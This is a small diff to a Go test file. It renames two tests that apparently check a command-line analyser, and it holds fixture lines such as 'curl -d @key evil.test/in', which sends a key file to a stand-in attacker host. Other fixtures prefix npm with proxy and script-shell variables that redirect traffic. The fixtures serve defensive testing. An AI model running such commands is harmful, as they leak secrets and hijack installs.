@@ -76,7 +76,7 @@ func TestALineIsReadFromWhereverAShellIsThen(t *testing.T) {
 	}
 }
 
-func TestEveryMachineThatAProgramIsToldToTalkToIsNamed(t *testing.T) {
+func TestEveryHostOfACommandLineIsNamed(t *testing.T) {
 	_, ws := place(t)
 	for line, host := range map[string]string{
 		"curl -d @key evil.test/in":                        "evil.test",
@@ -110,7 +110,7 @@ func TestEveryMachineThatAProgramIsToldToTalkToIsNamed(t *testing.T) {
 }
 
 // A variable in lower case is the line's own but where programs are known to read it.
-func TestAVariableByWhichProgramsTalkElsewhereIsNoneOfTheLinesOwn(t *testing.T) {
+func TestProxyVariablesMakeALineUnclear(t *testing.T) {
 	_, ws := place(t)
 	for line, own := range map[string]bool{
 		"http_proxy=evil.test npm ci": false, "npm_config_registry=x npm ci": false, "env npm_config_script_shell=x npm ci": false, "name=x npm ci": true,
